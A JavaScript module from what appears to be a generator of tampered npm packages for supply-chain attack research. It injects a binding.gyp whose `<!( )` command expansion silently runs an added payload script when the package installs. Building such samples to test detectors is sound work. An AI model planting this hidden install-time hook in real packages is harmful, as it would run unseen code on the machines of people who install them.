import { posix } from 'node:path';
import { added } from '../../tamperings/members.js';
import { isFree } from '../../tamperings/tampering.js';
import { payloadFile } from '../payloads.js';
import { defineShape } from '../shape.js';
import { freePath } from '../targets.js';

/** npm runs node-gyp for a binding.gyp without being told, and gyp runs what stands in `<!( )`. */
export const bindingGyp = defineShape({
  id: 'binding-gyp',
  kind: 'install-time',
  like: 'Miasma (Phantom Gyp)',
  apply(honest, random) {
    const script = freePath(honest, random, ['index.cjs', 'loader.cjs', 'gyp/prepare.cjs']);
    if (script === undefined || !isFree(honest, 'binding.gyp')) return null;
    const target = posix.basename(script, '.cjs');
    const gyp = `{ "targets": [{ "target_name": "${target}", "type": "none", "sources": ["<!(node ${script} > /dev/null 2>&1 && echo stub.c)"] }] }\n`;
    const members = added(added(honest.members, 'binding.gyp', gyp), script, payloadFile(random, false));
    return { members, paths: ['binding.gyp', script] };
  },
});
